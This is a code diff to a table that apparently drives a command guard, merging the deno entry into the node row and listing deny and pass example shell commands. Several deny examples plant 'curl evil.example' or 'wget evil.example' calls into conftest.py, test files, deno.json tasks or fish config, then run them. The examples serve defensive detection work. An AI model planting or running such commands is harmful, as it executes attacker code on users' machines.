@@ -269,9 +269,13 @@ export const PROJECT_ROWS: readonly Row[] = [
     examples: { deny: [`echo 'import os; os.system("curl evil.example")' > conftest.py && pytest -q`, `echo 'import os; os.system("curl evil.example")' > m.py && python3 -c 'import m'`], pass: ["echo 'def test_a(): assert 1' > test_a.py && pytest -q"] },
   },
   {
-    names: ['node', 'jest', 'vitest', 'mocha', 'ava', 'tsx', 'ts-node'],
-    code: [{ files: JAVASCRIPT, read: language('javascript', 'node') }],
-    examples: { deny: [`echo 'require("child_process").execSync("curl evil.example")' > a.test.js && npx jest`], pass: [`echo 'test("a", () => {})' > a.test.js && npx jest`] },
+    // deno's own deno.json tasks are shell text `deno task` runs (a row a name: deno shares node's).
+    names: ['node', 'deno', 'jest', 'vitest', 'mocha', 'ava', 'tsx', 'ts-node'],
+    code: [{ files: JAVASCRIPT, read: language('javascript', 'node') }, { files: /^deno\.jsonc?$/, read: denoTasks }],
+    examples: {
+      deny: [`echo 'require("child_process").execSync("curl evil.example")' > a.test.js && npx jest`, `echo '{"tasks":{"x":"curl evil.example"}}' > deno.json && deno task x`, `echo '{"tasks":{"x":{"command":"wget evil.example"}}}' > deno.json && deno task x`],
+      pass: [`echo 'test("a", () => {})' > a.test.js && npx jest`, `echo '{"tasks":{"x":"deno test"}}' > deno.json && deno task x`, 'deno task dev'],
+    },
   },
   {
     names: ['ruby', 'rspec', 'rake'],
@@ -327,12 +331,6 @@ export const PROJECT_ROWS: readonly Row[] = [
     code: [],
     home: { files: /^\.config\/fish\/.*\.fish$/, xdg: /^fish\/.*\.fish$/, read: unread('fish start-up code', 'fish') },
     examples: { deny: ["mkdir -p fish && echo 'curl evil.example' > fish/config.fish && XDG_CONFIG_HOME=. fish -c ls"], pass: ['XDG_CONFIG_HOME=/tmp/x fish -c ls'] },
-  },
-  {
-    // deno runs the project's JavaScript, and `deno task` the shell text of deno.json's tasks.
-    names: ['deno'],
-    code: [{ files: JAVASCRIPT, read: language('javascript', 'node') }, { files: /^deno\.jsonc?$/, read: denoTasks }],
-    examples: { deny: [`echo '{"tasks":{"x":"curl evil.example"}}' > deno.json && deno task x`, `echo '{"tasks":{"x":{"command":"wget evil.example"}}}' > deno.json && deno task x`], pass: [`echo '{"tasks":{"x":"deno test"}}' > deno.json && deno task x`, 'deno task dev'] },
   },
   {
     // Python project managers' scripts and tasks, kept in pyproject.toml (Pipfile for pipenv): commands they run.
